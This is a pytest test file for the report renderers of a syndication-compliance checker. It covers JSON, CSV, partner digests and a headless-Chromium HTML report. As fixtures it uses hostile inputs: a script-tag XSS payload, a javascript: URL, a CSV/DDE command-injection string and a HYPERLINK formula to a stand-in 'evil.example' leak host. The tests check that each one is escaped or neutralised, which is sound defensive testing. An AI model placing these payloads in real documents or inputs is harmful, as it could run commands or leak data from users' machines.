"""Audit reports: JSON, CSV, per-partner digests and the HTML report (in real headless Chromium)."""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
from pathlib import Path

import pytest

from checker.models import (
    AuditPage,
    AuditReport,
    DiffItem,
    Evidence,
    Finding,
    Match,
    Original,
    Outcome,
    PageResult,
    PartnerInfo,
    RunDiff,
    Severity,
    Status,
    TrendPoint,
    WarcRef,
)
from checker.report import audit_data, audit_html
from checker.report.audit_data import render_audit_csv, render_audit_json
from checker.report.audit_html import render_audit_html

from conftest import open_page
from checker.report.digest import render_digest

HOSTILE_SCRIPT = "<script>alert(1)</script>"
HOSTILE_URL = "javascript:alert(document.domain)"
HOSTILE_CMD = "=cmd|' /C calc'!A0"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'

SENATE_URL = "https://alpha.example/news/senate-vote"
WAIVER = "Opinion columns carry the columnist's byline (agreed with J. Doe, until 2099-12-31)"

ORIGINAL_1 = Original(
    id="dcnf-0412", url="https://dailycallernewsfoundation.org/2024/04/12/school-board/",
    title="School Board Approves Budget", authors=("Jane Reporter",),
)
ORIGINAL_2 = Original(
    id="dcnf-0420", url="https://dailycallernewsfoundation.org/2024/04/20/senate-vote/",
    title="Senate *split* [vote](javascript:alert(1)) " + HOSTILE_SCRIPT, authors=("John Smith",),
)

PARTNERS = (
    PartnerInfo("alpha", "Alpha Gazette", contacts=("editor@alpha.example", "web@alpha.example")),
    PartnerInfo("beta", "Beta Times", contacts=("desk@beta.example",),
                errors=("sitemap https://beta.example/sitemap.xml: not well-formed XML (line 3)",)),
    PartnerInfo("gamma", "Gamma Daily"),
)


def _pass(rule: str) -> Finding:
    return Finding(rule, Outcome.PASS, Severity.ERROR, f"{rule} ok", title=rule.title())


def _compliant(url: str, original: Original = ORIGINAL_1) -> PageResult:
    return PageResult(url, url, Status.COMPLIANT, original, Match(original, 0.9),
                      (_pass("logo"), _pass("byline"), _pass("affiliation")))


def build_report(*, complete: bool = True, trend: int = 5) -> AuditReport:
    senate = PageResult(
        SENATE_URL, SENATE_URL, Status.VIOLATION, ORIGINAL_2, Match(ORIGINAL_2, 0.81),
        (
            Finding("logo", Outcome.FAIL, Severity.ERROR,
                    "No visible DCNF logo: the only logo is the Daily Caller's. " + HOSTILE_SCRIPT,
                    (Evidence("div.head > img", HOSTILE_SCRIPT + '<img alt="Daily Caller">',
                              expected="Daily Caller News Foundation logo", actual="Daily Caller logo", line=12),),
                    fix="Add the DCNF logo above the byline.", title="DCNF logo"),
            _pass("byline"),
            Finding("affiliation", Outcome.FAIL, Severity.WARNING,
                    "DCNF is named only in the license notice, not in the byline.",
                    (Evidence("footer p.notice", HOSTILE_CMD, expected="Daily Caller News Foundation",
                              actual="(nothing in the byline)"),),
                    fix="Write \"Daily Caller News Foundation\" into the byline.", title="DCNF affiliation"),
        ),
    )
    waived = PageResult(
        "https://alpha.example/opinion/school-board", "https://alpha.example/opinion/school-board",
        Status.VIOLATION, ORIGINAL_1, Match(ORIGINAL_1, 0.7),
        (_pass("logo"),
         Finding("byline", Outcome.FAIL, Severity.ERROR, "The byline credits the columnist, not Jane Reporter.",
                 (Evidence("p.byline", "By Columnist", expected="Jane Reporter", actual="Columnist"),),
                 title="Reporter byline", waiver=WAIVER),
         _pass("affiliation")),
    )
    alpha_error = PageResult("https://alpha.example/news/down", "https://alpha.example/news/down", Status.ERROR,
                             error="HTTP 503 after 3 attempts")
    beta_violation = PageResult(
        HOSTILE_URL, HOSTILE_URL, Status.VIOLATION, ORIGINAL_1, Match(ORIGINAL_1, 0.88),
        (_pass("logo"),
         Finding("byline", Outcome.FAIL, Severity.ERROR, "The byline credits \"Staff\" instead of Jane Reporter.",
                 (Evidence("span.author", HOSTILE_FORMULA, expected="Jane Reporter", actual="Staff"),),
                 fix="Credit the reporter by name: \"By Jane Reporter, Daily Caller News Foundation\".",
                 title="Reporter byline"),
         Finding("affiliation", Outcome.NOT_APPLICABLE, Severity.ERROR, "Needs a byline.")),
    )
    beta_review = PageResult(
        "https://beta.example/story-7", "https://beta.example/story-7", Status.REVIEW, ORIGINAL_1,
        Match(ORIGINAL_1, 0.66),
        (_pass("logo"),
         Finding("byline", Outcome.REVIEW, Severity.ERROR, "The byline is written by JavaScript; look at it by hand.",
                 (Evidence("div#byline-root", HOSTILE_FORMULA),), title="Reporter byline"),
         Finding("affiliation", Outcome.NOT_APPLICABLE, Severity.ERROR, "Needs a byline.")),
    )
    pages = (
        AuditPage("alpha", senate, sha256="ab" * 32, warc=WarcRef("evidence/run-12-00001.warc.gz", "<urn:uuid:1111>")),
        AuditPage("alpha", _compliant("https://alpha.example/news/school-board"), sha256="cd" * 32),
        AuditPage("alpha", waived, sha256="ef" * 32),
        AuditPage("alpha", alpha_error),
        AuditPage("beta", beta_violation, sha256="01" * 32, warc=WarcRef("evidence/run-12-00002.warc.gz", "<urn:uuid:2222>")),
        AuditPage("beta", beta_review, sha256="23" * 32),
        AuditPage("beta", PageResult("https://beta.example/about", "https://beta.example/about", Status.NOT_A_COPY)),
        AuditPage("gamma", _compliant("https://gamma.example/a"), sha256="45" * 32),
        AuditPage("gamma", _compliant("https://gamma.example/b"), sha256="67" * 32, reused=True),
    )
    diff = RunDiff(
        previous_run=11,
        new=(DiffItem("fp-1", "alpha", SENATE_URL, "logo", "No visible DCNF logo"),
             DiffItem("fp-2", "beta", HOSTILE_URL, "byline", "credits Staff")),
        fixed=(DiffItem("fp-3", "alpha", "https://alpha.example/news/old-story", "affiliation", "DCNF not in byline"),
               DiffItem("fp-4", "gamma", "https://gamma.example/c", "logo", "no logo")),
        persisting=(DiffItem("fp-5", "alpha", SENATE_URL, "affiliation", "DCNF not in byline"),),
    )
    rates = [(10, 6), (10, 7), (12, 7), (9, 8), (7, 4)]
    points = tuple(TrendPoint(8 + i, f"2024-05-0{1 + i}T02:00:00Z", c, k) for i, (c, k) in enumerate(rates))[:trend]
    return AuditReport(
        run_id=12, license="dcnf", tool_version="0.1.0",
        started="2024-05-05T02:00:00Z", finished="2024-05-05T02:41:07Z",
        partners=PARTNERS, pages=pages, diff=diff, trend=points,
        waiver_notes=("waiver for beta https://beta.example/opinion/* (byline) expired on 2024-04-30",
                      "waiver for gamma https://gamma.example/x/* matched nothing"),
        complete=complete,
    )


@pytest.fixture
def report() -> AuditReport:
    return build_report()


@pytest.fixture
def test_output() -> Path:
    """Where the browser tests leave their screenshots: $SYNDICHECK_TEST_OUTPUT, else test-output/ (git-ignored)."""
    out = Path(os.environ.get("SYNDICHECK_TEST_OUTPUT") or Path(__file__).resolve().parents[1] / "test-output")
    out.mkdir(parents=True, exist_ok=True)
    return out


def _render(fn, report: AuditReport) -> str:
    out = io.StringIO()
    fn(report, out)
    return out.getvalue()


# --- shared numbers ---------------------------------------------------------------------------

def test_headline_counts_waived_pages_as_compliant(report: AuditReport) -> None:
    h = audit_data.headline(report)
    assert {k: h[k] for k in ("partners", "pages", "copies", "compliant", "violation", "review", "error",
                              "not_a_copy", "new", "fixed", "persisting")} == {
        "partners": 3, "pages": 9, "copies": 7, "compliant": 4, "violation": 2, "review": 1, "error": 1,
        "not_a_copy": 1, "new": 2, "fixed": 2, "persisting": 1}
    assert h["rate"] == pytest.approx(4 / 7)


def test_effective_status_never_clears_an_unwaived_fail() -> None:
    fail = Finding("logo", Outcome.FAIL, Severity.ERROR, "no logo")
    r = PageResult("u", "u", Status.VIOLATION, findings=(fail,))
    assert audit_data.effective_status(r) is Status.VIOLATION
    waived = dataclasses.replace(fail, waiver="agreed")
    review = Finding("byline", Outcome.REVIEW, Severity.ERROR, "cannot tell")
    assert audit_data.effective_status(dataclasses.replace(r, findings=(waived,))) is Status.COMPLIANT
    assert audit_data.effective_status(dataclasses.replace(r, findings=(waived, review))) is Status.REVIEW
    assert audit_data.effective_status(dataclasses.replace(r, findings=())) is Status.VIOLATION


# --- JSON -------------------------------------------------------------------------------------

def test_json_structure(report: AuditReport) -> None:
    doc = json.loads(_render(render_audit_json, report))
    assert doc["schema_version"] == 1
    assert doc["tool"] == {"name": "syndicheck", "version": "0.1.0"} and doc["license"] == "dcnf"
    assert doc["summary"] == {"pages": 9, "compliant": 4, "violation": 2, "review": 1, "not_a_copy": 1, "error": 1, "near_copy": 0}
    assert doc["run"] == {"id": 12, "started": "2024-05-05T02:00:00Z", "finished": "2024-05-05T02:41:07Z",
                          "complete": True}
    assert len(doc["pages"]) == 9
    first = doc["pages"][0]
    assert set(first) == {"target", "url", "status", "original", "match", "findings", "error",
                          "partner", "warc", "sha256", "reused", "requested"}
    assert first["partner"] == "alpha" and first["status"] == "violation"
    assert first["warc"] == {"file": "evidence/run-12-00001.warc.gz", "record_id": "<urn:uuid:1111>"}
    assert first["original"]["title"] == ORIGINAL_2.title  # JSON carries page text as data, unescaped
    assert first["findings"][0]["evidence"][0]["expected"] == "Daily Caller News Foundation logo"
    assert doc["pages"][1]["warc"] is None
    waived = doc["pages"][2]
    assert waived["status"] == "compliant" and waived["findings"][1]["waiver"] == WAIVER
    assert waived["findings"][1]["outcome"] == "fail"  # a waiver keeps the real outcome
    assert doc["pages"][8]["reused"] is True
    assert doc["pages"][3]["error"] == "HTTP 503 after 3 attempts"
    partners = {p["id"]: p for p in doc["partners"]}
    assert list(partners) == ["alpha", "beta", "gamma"]
    assert partners["alpha"] == {
        "id": "alpha", "name": "Alpha Gazette", "contacts": ["editor@alpha.example", "web@alpha.example"],
        "copies": 3, "compliant": 2, "violations": 1, "review": 0, "errors": 1, "discovery_errors": [],
        "no_candidates": False,
        "new": 1, "fixed": 1, "persisting": 1}
    assert partners["beta"]["discovery_errors"] == list(PARTNERS[1].errors)
    assert (partners["beta"]["copies"], partners["beta"]["violations"], partners["beta"]["review"]) == (2, 1, 1)
    assert (partners["gamma"]["copies"], partners["gamma"]["compliant"], partners["gamma"]["fixed"]) == (2, 2, 1)
    assert doc["diff"]["previous_run"] == 11
    assert [i["fingerprint"] for i in doc["diff"]["new"]] == ["fp-1", "fp-2"]
    assert doc["diff"]["fixed"][0] == {"fingerprint": "fp-3", "partner": "alpha",
                                       "url": "https://alpha.example/news/old-story", "rule": "affiliation",
                                       "message": "DCNF not in byline"}
    assert len(doc["diff"]["persisting"]) == 1


def test_json_page_objects_match_the_check_report(report: AuditReport) -> None:
    doc = json.loads(_render(render_audit_json, report))
    for page, obj in zip(report.pages, doc["pages"]):
        expected = page.result.as_dict()
        core = {k: obj[k] for k in expected}
        if page.result.url != "https://alpha.example/opinion/school-board":  # the waived page's status
            assert core == json.loads(json.dumps(expected))


# --- CSV --------------------------------------------------------------------------------------

def test_csv_rows_and_neutralisation(report: AuditReport) -> None:
    text = _render(render_audit_csv, report)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(audit_data.CSV_COLUMNS) and rows[0][0] == "partner"
    body = rows[1:]
    # one row per finding, one per page without findings
    assert len(body) == sum(max(1, len(p.result.findings)) for p in report.pages) == 23
    assert [r[0] for r in body].count("alpha") == 3 + 3 + 3 + 1
    col = {name: i for i, name in enumerate(rows[0])}
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    cmd = next(r for r in body if r[col["rule"]] == "affiliation" and r[col["url"]] == SENATE_URL)
    assert cmd[col["snippet"]] == "'" + HOSTILE_CMD
    assert cmd[col["warc_file"]] == "evidence/run-12-00001.warc.gz" and cmd[col["warc_record_id"]] == "<urn:uuid:1111>"
    formula = [r for r in body if r[col["snippet"]] == "'" + HOSTILE_FORMULA]
    assert len(formula) == 2
    waived = next(r for r in body if r[col["waiver"]])
    assert waived[col["waiver"]] == WAIVER and waived[col["outcome"]] == "fail" and waived[col["status"]] == "compliant"
    error = next(r for r in body if r[col["status"]] == "error")
    assert error[col["message"]] == "HTTP 503 after 3 attempts" and error[col["rule"]] == ""


# --- digest -----------------------------------------------------------------------------------

def test_digest_markdown_for_a_partner(report: AuditReport) -> None:
    text = render_digest(report, "alpha", "markdown")
    assert "Hello Alpha Gazette team," in text
    assert "## What to fix" in text
    assert f"[{SENATE_URL}](<{SENATE_URL}>)" in text
    assert "No visible DCNF logo" in text and "How to fix: Add the DCNF logo above the byline." in text
    assert "We expected “Daily Caller News Foundation logo” and found “Daily Caller logo”." in text
    assert "new since our last check" in text
    assert "## Fixed since our last check — thank you!" in text and "alpha.example/news/old-story" in text
    assert "## Pages we could not check" in text and "HTTP 503 after 3 attempts" in text
    # other partners' pages and waived findings are not in alpha's digest
    assert "beta.example" not in text and "gamma.example" not in text
    assert "columnist" not in text
    # page text cannot inject markup: no raw tags, no javascript: link
    assert HOSTILE_SCRIPT not in text and "\\<script\\>alert(1)\\</script\\>" in text
    assert not re.search(r"(?<!\\)\]\(<?javascript:", text)  # the title's [vote](javascript:...) is escaped
    assert "\\[vote\\](javascript:alert(1))" in text


def test_digest_markdown_renders_safely(report: AuditReport) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    for pid in ("alpha", "beta", "gamma"):
        html = markdown_it.MarkdownIt("commonmark").render(render_digest(report, pid, "markdown"))
        assert "<script" not in html
        assert not re.search(r'href="\s*javascript:', html, re.I)


def test_digest_beta_lists_discovery_errors_and_review(report: AuditReport) -> None:
    text = render_digest(report, "beta", "markdown")
    assert "not well-formed XML" in text
    assert "credits \"Staff\" instead of Jane Reporter" in text
    assert HOSTILE_URL in text and f"]({HOSTILE_URL}" not in text and f"](<{HOSTILE_URL}" not in text
    assert "## Pages we will look at by hand" in text
    assert "\\=HYPERLINK" not in text  # formula text is harmless in Markdown, shown as is
    assert "How to fix: Credit the reporter by name" in text


def test_digest_text_and_all_clear(report: AuditReport) -> None:
    text = render_digest(report, "gamma", "text")
    assert text.startswith("DCNF republication check for Gamma Daily, 2024-05-05\n====")
    assert "Nothing: every copy we could check meets the license terms. Thank you!" in text
    assert "https://gamma.example/c" in text  # fixed, thanks
    assert "##" not in text and "\\" not in text
    alpha = render_digest(report, "alpha", "text")
    assert HOSTILE_SCRIPT in alpha  # plain text: shown literally, nothing interprets it
    assert "What to fix\n-----------" in alpha and SENATE_URL in alpha


def test_digest_rejects_unknown_partner_and_format(report: AuditReport) -> None:
    with pytest.raises(ValueError):
        render_digest(report, "nobody", "markdown")
    with pytest.raises(ValueError):
        render_digest(report, "alpha", "html")  # type: ignore[arg-type]


def test_digest_notes_an_incomplete_run() -> None:
    assert "cut short" in render_digest(build_report(complete=False), "alpha", "text")


# --- HTML -------------------------------------------------------------------------------------

def test_html_is_self_contained_and_escaped(report: AuditReport) -> None:
    out = _render(render_audit_html, report)
    assert out.count("<script") == 1  # ours, allowed by hash in the CSP
    assert "Content-Security-Policy" in out and audit_html.CSP.replace("'", "&#39;") in out
    assert "default-src 'none'" in audit_html.CSP
    assert HOSTILE_SCRIPT not in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert 'href="javascript' not in out.lower()
    assert not re.search(r'(?:src|href)="(?!#|https?:|file:)', out)  # nothing loaded, no odd links
    assert "<link" not in out and "@import" not in out
    assert 'id="incomplete"' not in out
    assert WAIVER.replace("'", "&#39;") in out
    for note in report.waiver_notes:
        assert note in out


def test_html_incomplete_banner() -> None:
    out = _render(render_audit_html, build_report(complete=False))
    assert 'id="incomplete"' in out and "Incomplete run" in out


@pytest.mark.parametrize("n", [0, 1, 2, 5])
def test_trend_chart_point_counts(n: int) -> None:
    svg = str(audit_html.trend_svg(build_report(trend=n).trend))
    assert svg.count('class="pt"') == n
    assert ("<svg" in svg) == (n > 0)
    assert ("<polyline" in svg) == (n > 1)


def test_trend_chart_skips_runs_without_copies() -> None:
    points = (TrendPoint(1, "a", 4, 2), TrendPoint(2, "b", 0, 0), TrendPoint(3, "c", 4, 4))
    svg = str(audit_html.trend_svg(points))
    assert svg.count('class="pt"') == 2 and "<polyline" not in svg  # two one-point segments
    assert 'cy="14.0"' in svg  # 100% at the top


@pytest.mark.browser
def test_html_in_chromium(tmp_path: Path, report: AuditReport, browser) -> None:
    path = tmp_path / "audit-12.html"
    with open(path, "w", encoding="utf-8") as fh:
        render_audit_html(report, fh)
    page, dialogs, requests = open_page(browser, path)

    # headline numbers: pages and findings named apart
    assert page.inner_text('#headline li[data-key="copies"] b') == "7"
    assert page.inner_text('#headline li[data-key="violation"]') == "2\npages with violations"
    assert page.inner_text('#headline li[data-key="new"]') == "2\nnew failing findings"
    assert page.inner_text('#headline li[data-key="waived"] b') == "1"

    # partners worst first: beta (0% compliant) before alpha (67%), both one page with violations
    partner_rows = page.locator("#partners tbody tr")
    assert [r.locator("td").first.inner_text() for r in partner_rows.all()] == ["Beta Times", "Alpha Gazette",
                                                                                "Gamma Daily"]
    beta, alpha, gamma = (r.locator("td").all_inner_texts() for r in partner_rows.all())
    assert alpha[1:7] == ["3", "67%", "1", "1", "1", "1"] and alpha[7] == "1 page not checked"
    assert beta[1:4] == ["2", "0%", "1"] and beta[7] == "1 discovery problem"
    assert gamma[2] == "100%" and gamma[7] == "none"  # words, not a bare dash

    # the chart: an inline SVG with one marker per run
    assert page.locator("svg#trend circle.pt").count() == 5
    assert page.locator("svg#trend polyline").count() == 1

    # one section per partner with something to show, worst first; gamma (all compliant) has none
    assert page.locator("section.group").evaluate_all("s => s.map(x => x.id)") == ["p-beta", "p-alpha"]
    alpha_cards = page.locator("#p-alpha .card")
    assert alpha_cards.evaluate_all("c => c.map(x => x.dataset.status)") == ["violation", "error", "waived"]
    senate = alpha_cards.nth(0)
    assert senate.locator(f'a[href="{SENATE_URL}"]').count() == 1
    assert senate.locator(".url").inner_text() == "alpha.example/…/senate-vote"  # folded; the link is whole
    text = senate.inner_text()
    assert "DCNF logo" in text and "DCNF affiliation" in text and "new" in text and "persisting" in text
    assert "expected Daily Caller News Foundation logo; found Daily Caller logo" in text
    assert "Fix: Add the DCNF logo above the byline." in text
    assert HOSTILE_SCRIPT in text  # shown as text, never run
    assert senate.locator("code.warc-file").text_content() == "evidence/run-12-00001.warc.gz"
    assert senate.locator("code.warc-record").text_content() == "<urn:uuid:1111>"
    assert not senate.locator("code.warc-file").is_visible()  # folded away until asked for
    assert "Could not be checked: HTTP 503 after 3 attempts" in alpha_cards.nth(1).inner_text()
    assert WAIVER in alpha_cards.nth(2).inner_text()
    beta_cards = page.locator("#p-beta .card")
    assert beta_cards.evaluate_all("c => c.map(x => x.dataset.status)") == ["violation", "review"]
    assert HOSTILE_URL in beta_cards.nth(0).inner_text() and beta_cards.nth(0).locator("a").count() == 1
    assert "not well-formed XML" in page.inner_text("#p-beta ul.problems")
    assert page.locator('a[href^="javascript" i]').count() == 0

    # filters: they apply to the cards, the headline numbers and the chart
    assert page.locator("#filters").is_visible()
    page.select_option('#filters select[name="partner"]', "beta")
    assert [r.is_visible() for r in partner_rows.all()] == [True, False, False]
    assert page.locator("#p-alpha").is_hidden() and page.locator("#p-beta").is_visible()
    assert page.inner_text('#headline li[data-key="copies"] b') == "2"
    assert page.inner_text('#headline li[data-key="rate"] b') == "0%"
    assert page.inner_text("#scope") == "Beta Times, all rules"
    assert page.locator("svg#trend circle.pt").count() == 1  # this run's point (no per-partner history here)

    page.select_option('#filters select[name="partner"]', "")
    page.select_option('#filters select[name="rule"]', "logo")
    assert page.locator("#p-beta").is_hidden()  # byline and discovery only
    assert [c.is_visible() for c in alpha_cards.all()] == [True, False, False]
    assert senate.locator('li[data-rule="affiliation"]').is_hidden()
    assert page.inner_text('#headline li[data-key="violation"] b') == "1"
    assert page.inner_text('#headline li[data-key="new"] b') == "1"
    assert page.inner_text('#headline li[data-key="persisting"] b') == "0"
    assert all(r.is_visible() for r in partner_rows.all())  # the rule filter leaves the partner table alone

    page.select_option('#filters select[name="rule"]', "")
    page.select_option('#filters select[name="status"]', "waived")
    assert [c.is_visible() for c in alpha_cards.all()] == [False, False, True]
    assert page.locator("#p-beta").is_hidden()
    dim = page.locator("#headline li.dim").evaluate_all("l => l.map(x => x.dataset.key)")
    assert dim == ["violation", "review", "error"]
    page.select_option('#filters select[name="status"]', "")
    assert all(c.is_visible() for c in page.locator(".card").all())
    assert page.locator("svg#trend circle.pt").count() == 5 and page.locator("#headline li.dim").count() == 0

    # hover every snippet: an injected handler would fire now
    for summary in page.locator("details summary").all():
        summary.click()
    for snippet in page.locator("code.snippet").all():
        snippet.hover()
    assert dialogs == []
    assert all(u.startswith("file:") for u in requests), requests


def test_a_finding_without_evidence_says_what_the_rule_looked_for() -> None:
    report = build_report()
    senate = report.pages[0]
    bare = Finding("logo", Outcome.FAIL, Severity.ERROR, "no image on the page is the DCNF logo", (),
                   fix="Add the logo.", title="DCNF logo")
    page = dataclasses.replace(senate, result=dataclasses.replace(senate.result, findings=(bare,)))
    out = _render(render_audit_html, dataclasses.replace(report, pages=(page,) + report.pages[1:]))
    card = out.split('id="p-alpha"', 1)[1].split("</article>", 1)[0]
    assert "It looked for: A visible &lt;img&gt;/&lt;picture&gt;/&lt;svg&gt; on the page is the licensor" in card
    assert "—" not in card


def test_empty_sections_are_left_out() -> None:
    report = build_report()
    quiet = dataclasses.replace(report, pages=tuple(p for p in report.pages if p.partner == "gamma"),
                                partners=(PARTNERS[2],), diff=RunDiff(previous_run=11), waiver_notes=())
    out = _render(render_audit_html, quiet)
    assert 'class="group"' not in out and "Changes since" not in out and "waiver-notes" not in out
    assert "—" not in out.split("<svg", 1)[0]


@pytest.mark.browser
@pytest.mark.parametrize("width", [1280, 390])
def test_html_layout_on_a_laptop_and_a_phone(tmp_path: Path, report: AuditReport, browser, width: int,
                                             test_output: Path) -> None:
    """Readable at both widths: nothing wider than the window, card titles on one line (long URLs folded),
    two card columns on a laptop and one on a phone. Screenshots go to the test output directory."""
    path = tmp_path / "audit-12.html"
    path.write_text(_render(render_audit_html, report), encoding="utf-8")
    page = browser.new_page(viewport={"width": width, "height": 900})
    page.goto(path.as_uri())
    page.screenshot(path=str(test_output / f"audit-report-{width}.png"), full_page=True)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    # the partner table fits too (its wrapper would scroll sideways otherwise)
    assert page.evaluate("document.querySelector('#partners').scrollWidth") <= \
        page.evaluate("document.querySelector('.table-wrap').clientWidth")
    for card in page.locator(".card").all():
        box = card.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= width + 0.5
        title = card.locator(".url").bounding_box()
        assert title["height"] < 30  # one line: the URL is folded, never wrapped letter by letter
    lefts = {round(c.bounding_box()["x"]) for c in page.locator("#p-alpha .card").all()}
    assert len(lefts) == (2 if width >= 960 else 1)
    font = page.evaluate("parseFloat(getComputedStyle(document.querySelector('.card')).fontSize)")
    assert font >= 14


def test_diff_items_match_pages_by_normalised_url() -> None:
    report = build_report()
    page = report.pages[0]
    url = "https://ALPHA.example:443/news/senate-vote?utm_source=feed#top"
    tracked = dataclasses.replace(page, result=dataclasses.replace(page.result, target=url, url=url))
    logo = page.result.findings[0]
    assert audit_data.diff_status(report, tracked, logo) == "new"
    assert audit_data.diff_status(report, tracked, page.result.findings[2]) == "persisting"
    assert audit_data.diff_status(report, report.pages[1], logo) is None
